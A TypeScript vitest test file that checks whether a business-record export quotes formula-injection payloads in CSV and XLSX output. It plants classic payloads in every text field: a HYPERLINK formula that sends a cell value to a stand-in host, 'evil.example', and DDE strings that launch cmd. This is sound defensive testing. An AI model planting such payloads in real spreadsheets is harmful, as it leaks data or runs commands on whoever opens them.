import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiClient } from '../../../src/api/api-client.js';
import type { Business } from '../../../src/emulator/state-types.js';
import { exportBusinesses } from '../../../src/jobs/export/resources/export-businesses.js';
import { openSheetReader, type CellValue } from '../../../src/sheets/index.js';
import { startTestEmulator, type TestEmulator } from '../../emulator/start-test-emulator.js';
import { makeTempDir } from '../../sheets/make-temp-dir.js';
import { readXlsxWithPython } from './read-xlsx-with-python.js';

const logger = pino({ level: 'silent' });

/** Classic CSV-injection payloads: a formula, a DDE call, each trigger character, hidden behind a tab or a CR, in full width. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];

/** What a spreadsheet would run: a text starting with a trigger, unless the writer's quote comes first. */
const RUNNABLE = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The free-text fields of a business that the export writes as they are. */
const TEXT_FIELDS = ['name', 'code', 'zipcode', 'city', 'address2', 'description_short', 'description_long', 'website_url', 'national_identification_number'] as const;

describe('formula injection on export', () => {
  let api: TestEmulator;
  let business: Business;
  let planted: Map<string, string>;
  beforeAll(async () => {
    api = await startTestEmulator({ ratePerMinute: 100_000 });
    const [first] = api.emulator.state.orgBusinesses(1);
    if (first === undefined) throw new Error('no seeded business');
    business = first;
    planted = new Map();
    TEXT_FIELDS.forEach((field, index) => {
      const payload = PAYLOADS[index % PAYLOADS.length] ?? '';
      business[field] = payload;
      planted.set(field, payload);
    });
    for (const [index, field] of api.emulator.state.customFields.filter((definition) => definition.org_id === 1 && definition.type === 'TEXT').entries()) {
      const payload = PAYLOADS[index % PAYLOADS.length] ?? '';
      business.custom_fields[field.name] = payload;
      planted.set(`custom_fields.${field.name}`, payload);
    }
  });
  afterAll(() => api.close());

  async function exportTo(format: 'csv' | 'xlsx'): Promise<string> {
    const out = join(await makeTempDir(), `businesses.${format}`);
    const client = createApiClient({ baseUrl: api.url, apiKey: api.emulator.keys.ORG_ADMIN, ratePerMinute: 100_000 });
    try {
      await exportBusinesses(client, { out, filters: {} }, logger);
    } finally {
      await client.close();
    }
    return out;
  }

  /** The business's row as our reader reads it back: exactly the planted payloads. */
  async function readBack(out: string): Promise<Record<string, CellValue>> {
    for await (const item of await openSheetReader(out)) {
      if (item.kind === 'row' && item.values.business_id === business.id) return item.values;
    }
    throw new Error(`no row for ${business.id} in ${out}`);
  }

  it('quotes every payload in every text column of a CSV file, and reads each back as it was', async () => {
    const out = await exportTo('csv');
    const rows: string[][] = parse(await readFile(out), { bom: true, relax_column_count: true });
    const row = rows.find((cells) => cells[0] === business.id) ?? [];
    expect(row.filter((cell) => RUNNABLE.test(cell))).toEqual([]);
    const header = rows[0] ?? [];
    expect([...planted.keys()].filter((column) => row[header.indexOf(column)]?.startsWith("'") !== true)).toEqual([]);
    const values = await readBack(out);
    for (const [column, payload] of planted) expect(values[column]).toBe(payload);
  });

  it('writes no formula in an XLSX file: text cells carry each payload as it is, and read back as it was', async () => {
    const out = await exportTo('xlsx');
    const { sheets, formulas } = await readXlsxWithPython(out);
    expect(formulas).toBe(0);
    const row = (sheets.businesses ?? []).find((cells) => cells[0] === business.id) ?? [];
    const header = sheets.businesses?.[0] ?? [];
    // The file escapes control characters as _xHHHH_, which spreadsheets decode.
    const decode = (cell = ''): string => cell.replace(/_x([0-9A-F]{4})_/g, (_match, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
    for (const [column, payload] of planted) expect(decode(row[header.indexOf(column)])).toBe(payload);
    const values = await readBack(out);
    for (const [column, payload] of planted) expect(values[column]).toBe(payload);
  });
});
